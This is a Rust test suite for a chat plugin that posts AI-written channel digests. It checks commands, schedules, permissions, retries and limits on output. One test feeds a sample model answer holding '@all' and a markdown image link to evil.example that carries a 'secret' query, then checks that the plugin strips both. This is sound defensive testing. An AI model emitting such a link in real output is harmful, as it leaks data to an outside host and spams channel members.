//! What the plugin does, told from the channel.

use std::{cell::RefCell, rc::Rc};

use serde_json::{Value, json};
use wasmoat::{
    bridge::{BridgeError, HttpError},
    jobs::{JobSchedule, JobStatus, NewJob},
    testing::{Platform, calls},
    types,
};

use super::*;

const HOUR: i64 = 3_600_000;

/// A channel with Ann and Bob, and Eve outside; jobs that are kept until a test runs them.
struct Channel {
    platform: Platform,
    id: String,
    ann: String,
    bob: String,
    eve: String,
    jobs: Rc<RefCell<Vec<Job>>>,
}

fn channel() -> Channel {
    let platform = Platform::of::<DigestPlugin>();
    let id = platform.add_channel(types::Channel { display_name: "Town Square".into(), ..Default::default() }).id;
    let [ann, bob, eve] = ["ann", "bob", "eve"].map(|name| platform.user(name).id);
    platform.add_channel_member(&id, &ann).add_channel_member(&id, &bob);
    let jobs = Rc::default();
    let channel = Channel { platform, id, ann, bob, eve, jobs };
    channel.keep_jobs();
    channel.read_posts();
    channel.answer(Ok(summary()));
    DigestPlugin.on_activate().unwrap();
    channel
}

fn summary() -> Value {
    json!({"summary": "They had lunch.", "highlights": [], "action_items": []})
}

impl Channel {
    /// The jobs interface, in a list.
    fn keep_jobs(&self) {
        let keep = |jobs: &Rc<RefCell<Vec<Job>>>, new: NewJob, schedule: JobSchedule| {
            let mut jobs = jobs.borrow_mut();
            if matches!(schedule, JobSchedule::Cron(_)) {
                jobs.retain(|job| job.name != new.name);
            }
            let job = Job {
                id: format!("job{}", jobs.len()),
                name: new.name,
                payload: new.payload,
                max_attempts: new.max_attempts,
                attempt: 1,
                schedule,
                status: JobStatus::Waiting,
                ..blank()
            };
            jobs.push(job.clone());
            Ok(job)
        };
        let jobs = self.jobs.clone();
        self.platform.on(calls::jobs::StartJob, move |(new,)| keep(&jobs, new, JobSchedule::Once(0)));
        let jobs = self.jobs.clone();
        self.platform.on(calls::jobs::ScheduleJob, move |(new, schedule)| keep(&jobs, new, schedule));
        let jobs = self.jobs.clone();
        self.platform
            .on(calls::jobs::ListJobs, move |(page, _)| Ok(if page == 0 { jobs.borrow().clone() } else { Vec::new() }));
        let jobs = self.jobs.clone();
        self.platform.on(calls::jobs::CancelJob, move |(id,)| {
            for job in jobs.borrow_mut().iter_mut().filter(|job| job.id == id) {
                job.status = JobStatus::Cancelled;
            }
            Ok(true)
        });
        self.platform.on(calls::jobs::ReportJobProgress, |_| Ok(()));
        self.platform.on(calls::jobs::IsJobCancelled, |_| Ok(false));
    }

    /// Pages of the channel's posts, the newest first.
    fn read_posts(&self) {
        let platform = self.platform.clone();
        self.platform.on(calls::posts::GetPostsForChannel, move |(channel_id, page, per_page)| {
            let mut posts: Vec<Post> =
                platform.posts().into_iter().filter(|post| post.channel_id == channel_id).collect();
            posts.sort_by_key(|post| std::cmp::Reverse(post.create_at));
            let (page, per_page) = (usize::try_from(page).unwrap(), usize::try_from(per_page).unwrap());
            let posts: Vec<Post> = posts.into_iter().skip(page * per_page).take(per_page).collect();
            Ok(PostList { order: posts.iter().map(|post| post.id.clone()).collect(), posts, ..PostList::default() })
        });
    }

    /// What the plugin Agents says.
    fn answer(&self, answer: Result<Value, BridgeError>) {
        self.platform.on(calls::bridge::CallPlugin, move |_| {
            answer.clone().map(|answer| answer.to_string().into_bytes()).map_err(Into::into)
        });
    }

    /// The last request to it, and the schema of its answer.
    fn asked(&self) -> (Value, Value) {
        let (target, endpoint, request, schema) = self.platform.calls(calls::bridge::CallPlugin).pop().unwrap();
        assert_eq!((&*target, &*endpoint), ("mattermost-ai", "/api/v1/summarize"));
        (serde_json::from_slice(&request).unwrap(), serde_json::from_str(&schema.unwrap()).unwrap())
    }

    /// Somebody says something, so many hours ago.
    fn say(&self, user_id: &str, message: &str, hours_ago: i64) -> String {
        let post = Post {
            user_id: user_id.into(),
            channel_id: self.id.clone(),
            message: message.into(),
            create_at: self.platform.now() - hours_ago * HOUR,
            ..Post::default()
        };
        self.platform.add_post(post).id
    }

    fn command(&self, user_id: &str, line: &str) -> Result<String> {
        let args = CommandArgs {
            user_id: user_id.into(),
            channel_id: self.id.clone(),
            command: line.into(),
            site_url: "https://chat.example.org/".into(),
            ..CommandArgs::default()
        };
        match DigestPlugin.execute_command(PluginContext::default(), args)? {
            ExecuteCommandOutcome::Respond(response) => {
                assert_eq!(response.response_type, "ephemeral", "the channel sees the digest alone");
                Ok(response.text)
            }
            ExecuteCommandOutcome::NotHandled => panic!("`{line}` is not the plugin's"),
        }
    }

    /// Runs the newest job.
    fn run(&self) -> Result<()> {
        let job = self.jobs.borrow().last().unwrap().clone();
        DigestPlugin.run_job(PluginContext::default(), job)
    }

    /// The digests of the channel.
    fn digests(&self) -> Vec<String> {
        let bot = wasmoat::users::get_user_by_username("digestbot").unwrap().id;
        let posts = self.platform.posts().into_iter().filter(|post| post.user_id == bot);
        posts.map(|post| post.message).collect()
    }

    fn told(&self, user_id: &str) -> Vec<String> {
        let shown = self.platform.ephemeral_posts().into_iter().filter(|shown| shown.user_id == user_id);
        shown.map(|shown| shown.post.message).collect()
    }
}

fn blank() -> Job {
    Job {
        id: String::new(),
        plugin_id: "digest".into(),
        name: String::new(),
        payload: Vec::new(),
        schedule: JobSchedule::Once(0),
        status: JobStatus::Waiting,
        attempt: 0,
        max_attempts: 0,
        retry_after: 0,
        next_run_at: 0,
        started_at: 0,
        finished_at: 0,
        progress: 0,
        progress_text: String::new(),
        error: String::new(),
        cancel_requested: false,
        create_at: 0,
        update_at: 0,
    }
}

#[test]
fn activation_offers_the_command_with_its_words_and_makes_the_bot() {
    let channel = channel();
    let [command] = channel.platform.commands().try_into().unwrap();
    let data: Value = serde_json::from_str(&command.autocomplete_data).unwrap();
    let words: Vec<_> = data["SubCommands"].as_array().unwrap().iter().map(|word| word["Trigger"].clone()).collect();
    assert_eq!(words, ["now", "schedule", "list", "stop", "help"]);
    assert_eq!(channel.platform.calls(calls::bots::EnsureBotUser)[0].0.username, "digestbot");
}

#[test]
fn now_is_a_job_that_posts_what_the_agent_made_of_the_last_hours() {
    let channel = channel();
    channel.say(&channel.bob, "too old", 25);
    let lunch = channel.say(&channel.ann, "Lunch at noon?", 2);
    channel.say(&channel.bob, "Yes, I book a table.", 1);
    channel.answer(Ok(json!({
        "summary": "They go for lunch.",
        "highlights": [{"text": "Lunch is at noon", "post_id": lunch}],
        "action_items": [{"text": "bob books a table", "post_id": "made-up"}],
    })));
    let told = channel.command(&channel.ann, "/digest now").unwrap();
    assert_eq!(told, "A digest of the last 24 hours is being written.");
    assert!(channel.digests().is_empty(), "nobody waits for it");
    channel.run().unwrap();
    assert_eq!(
        channel.digests(),
        [format!(
            "#### Digest of Town Square\nThey go for lunch.\n\n**Highlights**\n- Lunch is at noon \
             ([message](https://chat.example.org/_redirect/pl/{lunch}))\n\n**To do**\n- bob books a table\n\n\
             _Of 2 messages by 2 people in 24 hours. Written by a model, which may be wrong._"
        )]
    );
    let (request, schema) = channel.asked();
    let posts = request["posts"].as_array().unwrap();
    assert_eq!(posts[0], json!({"id": lunch, "username": "ann", "time": "22:00", "message": "Lunch at noon?"}));
    assert_eq!((posts.len(), &request["about"]), (2, &json!("Town Square")));
    assert_eq!((&request["user_id"], &request["channel_id"]), (&json!(channel.ann), &json!(channel.id)));
    assert_eq!(schema["required"], json!(["summary", "highlights", "action_items"]));
}

#[test]
fn the_agent_and_its_instructions_are_settings() {
    let channel = channel();
    channel.platform.set_setting("agent", "scribe").set_setting("instructions", "In German.");
    channel.say(&channel.ann, "Lunch?", 0);
    channel.command(&channel.ann, "/digest now 1").unwrap();
    channel.run().unwrap();
    let (request, _) = channel.asked();
    assert_eq!((&request["agent"], &request["instructions"]), (&json!("scribe"), &json!("In German.")));
}

#[test]
fn the_servers_lines_and_digests_of_before_are_not_part_of_it() {
    let channel = channel();
    let id = channel.say(&channel.ann, "ann joined", 1);
    channel.platform.add_post(Post { type_: "system_join_channel".into(), ..channel.platform.post(&id).unwrap() });
    channel.say(&channel.ann, " ", 1);
    let bot = wasmoat::users::get_user_by_username("digestbot").unwrap().id;
    channel.say(&bot, "#### Digest", 1);
    channel.command(&channel.ann, "/digest now").unwrap();
    channel.run().unwrap();
    assert_eq!(channel.told(&channel.ann), ["There is nothing new for a digest."]);
    assert!(channel.platform.calls(calls::bridge::CallPlugin).is_empty());
}

#[test]
fn of_a_long_conversation_the_newest_count() {
    let channel = channel();
    for number in 0..620 {
        channel.platform.advance(std::time::Duration::from_secs(1));
        channel.say(&channel.ann, &format!("message {number}"), 0);
    }
    channel.command(&channel.ann, "/digest now").unwrap();
    channel.run().unwrap();
    let (request, _) = channel.asked();
    let posts = request["posts"].as_array().unwrap();
    assert_eq!((posts.len(), &posts[0]["message"]), (500, &json!("message 120")));
    assert!(channel.digests()[0].contains("Of the newest 500 messages by 1 person"));
}

#[test]
fn nobody_has_a_digest_of_a_channel_that_they_may_not_read() {
    let channel = channel();
    channel.say(&channel.ann, "secret", 0);
    for line in ["/digest now", "/digest schedule daily 9:00", "/digest stop"] {
        assert_eq!(channel.command(&channel.eve, line).unwrap_err().status(), 403, "{line}");
    }
    assert!(channel.jobs.borrow().is_empty());
}

#[test]
fn who_has_left_meanwhile_gets_none_and_their_schedule_ends() {
    let channel = channel();
    channel.say(&channel.ann, "secret", 0);
    channel.command(&channel.ann, "/digest schedule daily 9:00").unwrap();
    channel.platform.on(calls::permissions::HasPermissionToChannel, |_| false);
    assert_eq!(channel.run().unwrap_err().status(), 403);
    assert_eq!(channel.jobs.borrow()[0].status, JobStatus::Cancelled);
    assert!(channel.platform.calls(calls::bridge::CallPlugin).is_empty());
    assert!(channel.digests().is_empty());
}

#[test]
fn a_channel_has_one_schedule_which_is_listed_and_can_be_stopped() {
    let channel = channel();
    let told = channel.command(&channel.ann, "/digest schedule daily 9:00").unwrap();
    assert_eq!(told, "This channel has a digest daily at 9:00 UTC. `/digest stop` ends that.");
    channel.command(&channel.ann, "/digest schedule mondays 8:30").unwrap();
    let [job] = channel.jobs.borrow().clone().try_into().unwrap();
    assert_eq!((job.schedule, job.max_attempts), (JobSchedule::Cron("30 8 * * 1".into()), 3));
    assert_eq!(channel.command(&channel.bob, "/digest list").unwrap(), "- Town Square: mondays at 8:30 UTC, by ann");
    let none = "No channel of yours has a scheduled digest.";
    assert_eq!(channel.command(&channel.eve, "/digest list").unwrap(), none, "others do not learn of it");
    channel.command(&channel.ann, "/digest stop").unwrap();
    assert_eq!(channel.command(&channel.bob, "/digest list").unwrap(), none);
    assert_eq!(channel.command(&channel.ann, "/digest stop").unwrap(), "This channel has no scheduled digest.");
}

#[test]
fn what_another_member_has_scheduled_is_changed_by_its_owner_and_by_channel_admins() {
    let channel = channel();
    channel.command(&channel.ann, "/digest schedule daily 9:00").unwrap();
    channel.platform.on(calls::permissions::HasPermissionToChannel, |(_, _, what)| what != "manage_channel_roles");
    for line in ["/digest stop", "/digest schedule daily 10:00"] {
        assert_eq!(channel.command(&channel.bob, line).unwrap_err().id(), "digest.not_yours", "{line}");
    }
    channel.platform.on(calls::permissions::HasPermissionToChannel, |_| true);
    channel.command(&channel.bob, "/digest stop").unwrap();
}

#[test]
fn a_scheduled_digest_begins_where_the_last_one_ended() {
    let channel = channel();
    channel.command(&channel.ann, "/digest schedule daily 9:00").unwrap();
    channel.say(&channel.ann, "first", 1);
    channel.run().unwrap();
    channel.run().unwrap();
    assert_eq!(channel.digests().len(), 1, "nothing new is no digest, and nobody is told");
    assert!(channel.told(&channel.ann).is_empty());
    channel.platform.advance(std::time::Duration::from_secs(7_200));
    channel.say(&channel.bob, "second", 1);
    channel.run().unwrap();
    let (request, _) = channel.asked();
    assert_eq!(request["posts"][0]["message"], "second");
    assert!(channel.digests()[1].contains("in 2 hours, daily at 9:00 UTC"), "{}", channel.digests()[1]);
}

#[test]
fn who_asked_is_told_why_there_is_none() {
    let http = |body: &str| BridgeError::Http(HttpError { status: 429, body: body.as_bytes().to_vec() });
    for (error, told) in [
        (BridgeError::NotActive("x".into()), "There is no digest: the plugin Agents is not there"),
        (BridgeError::Unauthorised("x".into()), "you may not use the agent here."),
        (http(r#"{"message": "the provider's rate limit is reached"}"#), "the provider's rate limit is reached."),
        (BridgeError::SchemaViolation("/summary".into()), "did not have the form of a digest."),
        (BridgeError::Timeout("30 s".into()), "timed out: 30 s."),
    ] {
        let channel = channel();
        channel.say(&channel.ann, "Lunch?", 0);
        channel.answer(Err(error));
        channel.command(&channel.ann, "/digest now").unwrap();
        channel.run().unwrap_err();
        let [text] = channel.told(&channel.ann).try_into().unwrap();
        assert!(text.contains(told), "{text}");
        assert!(channel.digests().is_empty());
    }
}

#[test]
fn a_scheduled_digest_is_tried_again_before_anybody_is_told() {
    let channel = channel();
    channel.say(&channel.ann, "Lunch?", 0);
    channel.answer(Err(BridgeError::Timeout("30 s".into())));
    channel.command(&channel.ann, "/digest schedule daily 9:00").unwrap();
    channel.run().unwrap_err();
    assert!(channel.told(&channel.ann).is_empty());
    channel.jobs.borrow_mut()[0].attempt = 3;
    channel.run().unwrap_err();
    assert_eq!(channel.told(&channel.ann).len(), 1);
}

#[test]
fn what_a_model_writes_mentions_nobody_and_links_nowhere() {
    let channel = channel();
    channel.say(&channel.ann, "x", 0);
    let evil = "@all ![x](https://evil.example/?secret)";
    channel.answer(Ok(json!({"summary": evil, "highlights": [{"text": evil, "post_id": ""}], "action_items": []})));
    channel.command(&channel.ann, "/digest now").unwrap();
    channel.run().unwrap();
    let digest = &channel.digests()[0];
    assert!(!digest.contains("@all") && !digest.contains("](h") && !digest.contains("https://"), "{digest}");
}

#[test]
fn a_model_that_talks_too_much_is_cut() {
    let channel = channel();
    channel.say(&channel.ann, "x", 0);
    let items = vec![json!({"text": "é".repeat(5_000), "post_id": ""}); 100];
    channel.answer(Ok(json!({"summary": "é".repeat(20_000), "highlights": items, "action_items": items})));
    channel.command(&channel.ann, "/digest now").unwrap();
    channel.run().unwrap();
    assert!(channel.digests()[0].chars().count() < 16_383, "a post has at most so many characters");
}

#[test]
fn what_is_not_understood_is_answered_with_help() {
    let channel = channel();
    for line in ["/digest", "/digest help", "/digest what", "/digest now 1 2", "/digest stop it"] {
        assert!(channel.command(&channel.ann, line).unwrap().contains("/digest schedule daily 9:00"), "{line}");
    }
    for line in ["/digest now 0", "/digest now 169", "/digest now soon"] {
        assert_eq!(channel.command(&channel.ann, line).unwrap_err().id(), "digest.hours", "{line}");
    }
    assert_eq!(channel.command(&channel.ann, "/digest schedule").unwrap_err().id(), "digest.schedule.invalid");
}
